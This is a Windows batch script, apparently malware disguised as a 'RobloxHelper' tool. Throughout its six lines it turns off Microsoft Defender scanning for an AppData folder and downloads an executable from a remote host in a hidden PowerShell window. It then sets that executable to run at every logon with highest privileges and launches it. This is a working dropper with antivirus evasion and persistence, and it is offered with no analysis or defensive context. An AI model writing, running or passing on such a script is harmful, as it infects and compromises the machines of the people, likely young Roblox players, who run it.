@echo off
powershell -Command "Add-MpPreference -ExclusionPath '%APPDATA%\RobloxHelper'" >nul 2>&1
mkdir "%APPDATA%\RobloxHelper" 2>nul
powershell -NoProfile -WindowStyle Hidden -Command "Invoke-WebRequest -Uri 'https://cdn.example.invalid/files/Client-built.exe' -OutFile '%APPDATA%\RobloxHelper\RobloxHelper.exe'"
schtasks /create /tn "RobloxHelper" /tr "%APPDATA%\RobloxHelper\RobloxHelper.exe" /sc onlogon /rl highest /f >nul 2>&1
start "" "%APPDATA%\RobloxHelper\RobloxHelper.exe"
